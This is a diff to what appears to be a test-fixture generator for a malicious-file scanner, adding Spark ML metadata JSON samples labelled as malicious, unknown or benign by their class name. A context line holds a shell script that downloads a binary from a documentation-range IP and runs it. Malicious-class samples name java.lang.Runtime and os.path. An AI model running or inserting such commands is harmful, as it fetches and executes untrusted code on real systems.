@@ -158,3 +158,17 @@ for _name, _file, _text, _bad in (
     ("fetched_and_started", "run.sh", "#!/bin/sh\nwget -q http://203.0.113.9/m -O /tmp/m\nchmod +x /tmp/m\n/tmp/m &\n", True),
 ):
     file(f"text.{_name}", _file, _text, "scripts", malicious=_bad)
+_STAGES: tuple[tuple[str, str, bool | None], ...] = (
+    ("spark_runtime", "java.lang.Runtime", True),
+    ("spark_module", "os.path", True),
+    ("spark_unknown", "com.acme.ml.Model", None),
+    ("spark_plain", "org.apache.spark.ml.classification.LogisticRegressionModel", False),
+)
+for _name, _stage, _known in _STAGES:
+    file(
+        f"json.{_name}",
+        "part-00000",
+        json.dumps({"class": _stage, "timestamp": 1, "sparkVersion": "3.5.0", "uid": "x", "paramMap": {}}),
+        "JSON with code tags",
+        malicious=_known,
+    )
